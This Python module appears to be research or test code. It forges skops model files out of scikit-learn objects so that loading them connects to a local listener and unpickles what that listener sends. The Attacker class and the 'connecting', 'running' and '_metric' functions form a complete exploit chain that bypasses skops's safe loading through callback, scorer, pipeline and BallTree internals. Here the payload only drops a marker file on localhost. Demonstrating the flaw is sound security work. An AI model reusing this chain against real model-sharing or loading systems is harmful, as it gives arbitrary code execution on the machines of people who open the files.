"""Forged skops files that reach a listener on this machine, made of scikit-learn alone."""

from __future__ import annotations

import io
import json
import pickle
import threading
import zipfile
from multiprocessing.connection import Listener
from pathlib import Path
from typing import Any

import numpy as np
import skops.io
from frameworks.bait import pickled
from sklearn.callback._callback_context import CallbackContext
from sklearn.callback._progressbar import ProgressBar
from sklearn.callback._scoring_monitor import ScoringMonitor
from sklearn.callback._transport import ListenerHandle
from sklearn.ensemble import IsolationForest
from sklearn.linear_model import LogisticRegression
from sklearn.linear_model._stochastic_gradient import _ValidationScoreCallback
from sklearn.metrics._scorer import _Scorer
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

KEY = b"k"


class Attacker:
    """Listens, and sends whoever comes a pickle that leaves a marker."""

    def __init__(self, marker: Path) -> None:
        self._listener = Listener(("127.0.0.1", 0), authkey=KEY)
        self._marker = marker
        self.reached = threading.Event()
        threading.Thread(target=self._answer, daemon=True).start()

    @property
    def port(self) -> int:
        address: tuple[str, int] = self._listener.address
        return address[1]

    def _answer(self) -> None:
        try:
            with self._listener.accept() as connection:
                self.reached.set()
                connection.recv()
                connection.send_bytes(pickled(self._marker))
        except (OSError, EOFError, pickle.PickleError):
            self.reached.set()

    def close(self) -> None:
        self._listener.close()


def _made(kind: Any, **attributes: object) -> Any:
    """An object that was never constructed, as skops makes them."""
    made = kind.__new__(kind)
    made.__dict__.update(attributes)
    return made


def connecting(port: int) -> bytes:
    """A file whose part connects as soon as it gets its state."""
    monitor = _made(
        ScoringMonitor,
        _scoring="accuracy",
        _log=[],
        _estimator_scorers={},
        _listener_handle=ListenerHandle(("127.0.0.1", port), KEY),
    )
    raw: bytes = skops.io.dumps(monitor)
    return raw


def running(port: int) -> bytes:
    """A file that is unpickled what the listener sends: by a tree that measures with a pipeline."""
    content, files = _schema(skops.io.dumps(_metric(port)))
    more, other = _schema(skops.io.dumps([np.arange(200.0).reshape(100, 2), 40]))
    extra = {key: content.pop(key) for key in ("protocol", "_skops_version")}
    _shift(more, 7)
    call = {
        "__class__": "BallTree",
        "__module__": "sklearn.neighbors._ball_tree",
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "content": [*more["content"], content],
        },
        **extra,
    }
    return archive(call, files | other)


def _metric(port: int) -> Any:
    """Called with two rows, it fits an estimator whose callback connects."""
    bar = _made(
        ProgressBar,
        max_propagation_depth=None,
        _listener_handles={"u": ListenerHandle(("127.0.0.1", port), KEY)},
    )
    common = {
        "_callbacks": [],
        "estimator_name": "a",
        "task_name": "t",
        "task_id": 0,
        "sequential_subtasks": True,
        "root_uuid": "u",
        "init_time": 0,
        "source_estimator_name": None,
        "source_task_name": None,
        "_propagation_depth": 0,
    }
    root = _made(CallbackContext, **common, max_subtasks=None, parent=None, _children_map={0: 1})
    context = _made(CallbackContext, **common, max_subtasks=0, parent=root, _children_map={})
    fitted = Pipeline([("s", StandardScaler()), ("i", IsolationForest(n_estimators=1))])
    fitted.__dict__.update(_skl_callbacks=[bar], _parent_callback_ctx=context)
    fits = _made(
        _Scorer, _score_func=LogisticRegression, _sign=1, _kwargs={}, _response_method="fit"
    )
    given = {"X": np.zeros((3, 2)), "y_true": None}
    caller = FunctionTransformer(func=fits, validate=False, kw_args=given)
    last = LogisticRegression().fit([[0], [1]], [0, 1])
    pipeline = Pipeline([("f", caller), ("e", last)])
    pipeline.__dict__["n_features_in_"] = 1
    return _made(
        _ValidationScoreCallback,
        estimator=pipeline,
        X_val=fitted,
        y_val=None,
        sample_weight_val=None,
    )


def _schema(raw: bytes) -> tuple[Any, dict[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(raw)) as read:
        files = {name: read.read(name) for name in read.namelist()}
    return json.loads(files.pop("schema.json")), files


def _shift(value: Any, by: int) -> None:
    if isinstance(value, dict):
        if "__id__" in value:
            value["__id__"] += by
        value = list(value.values())
    if isinstance(value, list):
        for part in value:
            _shift(part, by)


def archive(schema: Any, files: dict[str, bytes]) -> bytes:
    """A skops file of this schema."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as target:
        target.writestr("schema.json", json.dumps(schema))
        for name, raw in files.items():
            target.writestr(name, raw)
    return written.getvalue()
